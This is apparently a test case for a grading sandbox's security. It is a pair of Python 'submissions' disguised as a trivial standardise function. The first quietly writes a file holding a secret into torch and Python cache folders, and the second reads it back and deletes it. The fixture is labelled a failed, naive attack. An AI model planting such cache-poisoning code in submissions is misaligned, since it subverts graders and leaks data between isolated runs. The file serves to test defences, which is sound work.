"""The first submission writes to every cache that torch or Python reads; the second finds what it wrote."""
# /// attack
# class = 90
# goal = "have code of one's own run in other submissions, or in the grader, by way of a cache"
# gain = "secret"
# kind = "pair"
# outcome = "failed"
# naive = true
# ///

import contextlib
import getpass
import os
import tempfile

import torch

with contextlib.suppress(Exception):
    user = getpass.getuser()
    folders = [f"{tempfile.gettempdir()}/torchinductor_{user}", os.path.expanduser("~/.cache/torch"), "@OUTSIDE@/cache"]
    folders += [f"{folder}/__pycache__" for folder in (*torch.__path__, os.path.dirname(os.__file__))]
    for folder in folders:
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/dlgrade_attack.py", "w") as stream:
                stream.write("WORD = '@WORD@'\n")


def standardise(x):
    return x


# --- the second submission ---
import contextlib
import getpass
import os
import tempfile

import torch

with contextlib.suppress(Exception):
    user = getpass.getuser()
    folders = [f"{tempfile.gettempdir()}/torchinductor_{user}", os.path.expanduser("~/.cache/torch"), "@OUTSIDE@/cache"]
    folders += [f"{folder}/__pycache__" for folder in (*torch.__path__, os.path.dirname(os.__file__))]
    for folder in folders:
        with contextlib.suppress(OSError):
            print(open(f"{folder}/dlgrade_attack.py").read())
            os.unlink(f"{folder}/dlgrade_attack.py")


def standardise(x):
    return x
